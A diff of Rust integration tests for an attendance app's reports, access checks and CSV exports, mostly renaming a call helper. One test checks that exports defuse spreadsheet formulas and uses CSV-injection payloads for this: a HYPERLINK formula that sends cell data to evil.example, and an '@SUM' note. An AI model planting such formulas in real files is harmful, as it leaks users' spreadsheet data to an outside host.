@@ -27,7 +27,7 @@ async fn a_cohort_report_gives_each_students_rate_over_the_sessions_held(pool: P
     let cohort = running(&pool).await;
     let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
     let report = lina
-        .call("attendance.report_cohort", json!({ "cohort_id": cohort, "threshold": 0.9 }))
+        .call_json("attendance.report_cohort", json!({ "cohort_id": cohort, "threshold": 0.9 }))
         .await
         .unwrap();
     let held = held(&pool, cohort).await;
@@ -71,7 +71,7 @@ async fn a_cohort_report_gives_each_students_rate_over_the_sessions_held(pool: P
     let paused = paused.expect("the demo's running cohort has a paused student");
     assert!(paused["rate"].as_f64().unwrap() < 0.9 && paused["below"] == false, "{paused}");
     let sara = Caller::as_user(&pool, user_id(&pool, "sara@demo.digitalhub.dev").await);
-    let refused = sara.call("attendance.report_cohort", json!({ "cohort_id": cohort })).await.unwrap_err();
+    let refused = sara.call_json("attendance.report_cohort", json!({ "cohort_id": cohort })).await.unwrap_err();
     assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
     lina.refused(
         "attendance.report_cohort",
@@ -86,7 +86,7 @@ async fn a_cohort_report_gives_each_students_rate_over_the_sessions_held(pool: P
 async fn a_student_sees_their_own_record_and_no_one_elses(pool: PgPool) {
     hub_core::demo::seed(&pool).await.unwrap();
     let nour = Caller::as_user(&pool, user_id(&pool, "student@demo.digitalhub.dev").await);
-    let mine = nour.call("attendance.mine", json!({})).await.unwrap();
+    let mine = nour.call_json("attendance.mine", json!({})).await.unwrap();
     let record = &mine[0];
     let sessions = record["sessions"].as_array().unwrap();
     assert!(!sessions.is_empty());
@@ -107,10 +107,10 @@ async fn a_student_sees_their_own_record_and_no_one_elses(pool: PgPool) {
     .await
     .unwrap();
     let refused =
-        nour.call("attendance.report_student", json!({ "enrollment_id": someone_else })).await.unwrap_err();
+        nour.call_json("attendance.report_student", json!({ "enrollment_id": someone_else })).await.unwrap_err();
     assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
     let own = rate["enrollment_id"].clone();
-    nour.call("attendance.report_student", json!({ "enrollment_id": own })).await.unwrap();
+    nour.call_json("attendance.report_student", json!({ "enrollment_id": own })).await.unwrap();
 }
 
 #[sqlx::test(migrator = "hub_core::MIGRATOR")]
@@ -125,9 +125,9 @@ async fn every_report_comes_as_csv_with_its_fields_quoted(pool: PgPool) {
     .fetch_one(&pool)
     .await
     .unwrap();
-    let roster = lina.call("attendance.roster", json!({ "id": session })).await.unwrap();
+    let roster = lina.call_json("attendance.roster", json!({ "id": session })).await.unwrap();
     let student = roster["students"][0].clone();
-    lina.call(
+    lina.call_json(
         "attendance.mark",
         json!({ "session_id": session, "enrollment_id": student["enrollment_id"], "status": "late",
                 "note": "Said \"sorry\", then sat down, quietly" }),
@@ -135,7 +135,7 @@ async fn every_report_comes_as_csv_with_its_fields_quoted(pool: PgPool) {
     .await
     .unwrap();
     let by_session = lina
-        .call("attendance.export_csv", json!({ "report": "session", "session_id": session }))
+        .call_json("attendance.export_csv", json!({ "report": "session", "session_id": session }))
         .await
         .unwrap();
     let text = by_session["content"].as_str().unwrap();
@@ -156,7 +156,7 @@ async fn every_report_comes_as_csv_with_its_fields_quoted(pool: PgPool) {
     assert!(by_session["filename"].as_str().unwrap().ends_with(".csv"));
 
     let by_cohort =
-        lina.call("attendance.export_csv", json!({ "report": "cohort", "cohort_id": cohort })).await.unwrap();
+        lina.call_json("attendance.export_csv", json!({ "report": "cohort", "cohort_id": cohort })).await.unwrap();
     assert!(by_cohort["content"].as_str().unwrap().starts_with(
         "student,enrollment,present,late,absent,excused,sessions held,rate %,below threshold\n"
     ));
@@ -166,23 +166,23 @@ async fn every_report_comes_as_csv_with_its_fields_quoted(pool: PgPool) {
         csv["content"].as_str().unwrap().lines().filter(|line| line.ends_with(",yes")).count()
     };
     let strict = lina
-        .call("attendance.export_csv", json!({ "report": "cohort", "cohort_id": cohort, "threshold": 0.95 }))
+        .call_json("attendance.export_csv", json!({ "report": "cohort", "cohort_id": cohort, "threshold": 0.95 }))
         .await
         .unwrap();
     let on_screen = lina
-        .call("attendance.report_cohort", json!({ "cohort_id": cohort, "threshold": 0.95 }))
+        .call_json("attendance.report_cohort", json!({ "cohort_id": cohort, "threshold": 0.95 }))
         .await
         .unwrap();
     let on_screen = on_screen["students"].as_array().unwrap().iter().filter(|s| s["below"] == true).count();
     let nobody = lina
-        .call("attendance.export_csv", json!({ "report": "cohort", "cohort_id": cohort, "threshold": 0.0 }))
+        .call_json("attendance.export_csv", json!({ "report": "cohort", "cohort_id": cohort, "threshold": 0.0 }))
         .await
         .unwrap();
     assert_eq!(below(&nobody), 0);
     assert_eq!(below(&strict), on_screen, "the file marks whom the screen highlights");
     assert!(below(&strict) >= below(&by_cohort) && on_screen > 0);
     let by_student = lina
-        .call(
+        .call_json(
             "attendance.export_csv",
             json!({ "report": "student", "enrollment_id": student["enrollment_id"] }),
         )
@@ -196,7 +196,7 @@ async fn each_session_held_is_reported_with_its_marks_counted(pool: PgPool) {
     hub_core::demo::seed(&pool).await.unwrap();
     let cohort = running(&pool).await;
     let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
-    let sessions = lina.call("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap();
+    let sessions = lina.call_json("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap();
     let sessions = sessions.as_array().unwrap();
     let held = held(&pool, cohort).await;
     assert_eq!(sessions.len() as i64, held, "every session held, none to come");
@@ -218,7 +218,7 @@ async fn each_session_held_is_reported_with_its_marks_counted(pool: PgPool) {
     newest_first.sort_unstable_by(|a, b| b.cmp(a));
     assert_eq!(dates, newest_first, "the latest first");
     let sara = Caller::as_user(&pool, user_id(&pool, "sara@demo.digitalhub.dev").await);
-    let refused = sara.call("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap_err();
+    let refused = sara.call_json("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap_err();
     assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
 }
 
@@ -232,7 +232,7 @@ async fn a_name_or_a_note_a_spreadsheet_would_run_is_exported_as_text(pool: PgPo
     let nour_id = user_id(&pool, "student@demo.digitalhub.dev").await;
     let nour = Caller::as_user(&pool, nour_id);
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Nour\")";
-    nour.call("profiles.update_mine", json!({ "full_name": formula })).await.unwrap();
+    nour.call_json("profiles.update_mine", json!({ "full_name": formula })).await.unwrap();
     let (session, enrollment) = sqlx::query!(
         "select s.id as session, e.id as enrollment from sessions s join enrollments e on e.cohort_id = s.cohort_id
           where s.cohort_id = $1 and s.date <= current_date and e.student_user_id = $2
@@ -244,7 +244,7 @@ async fn a_name_or_a_note_a_spreadsheet_would_run_is_exported_as_text(pool: PgPo
     .await
     .map(|row| (row.session, row.enrollment))
     .unwrap();
-    lina.call(
+    lina.call_json(
         "attendance.mark",
         json!({ "session_id": session, "enrollment_id": enrollment, "status": "late", "note": "@SUM(1+1)" }),
     )
@@ -256,7 +256,7 @@ async fn a_name_or_a_note_a_spreadsheet_would_run_is_exported_as_text(pool: PgPo
         json!({ "report": "cohort", "cohort_id": cohort }),
         json!({ "report": "student", "enrollment_id": enrollment }),
     ] {
-        let file = lina.call("attendance.export_csv", report.clone()).await.unwrap();
+        let file = lina.call_json("attendance.export_csv", report.clone()).await.unwrap();
         let cells: Vec<String> = csv::Reader::from_reader(file["content"].as_str().unwrap().as_bytes())
             .records()
             .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
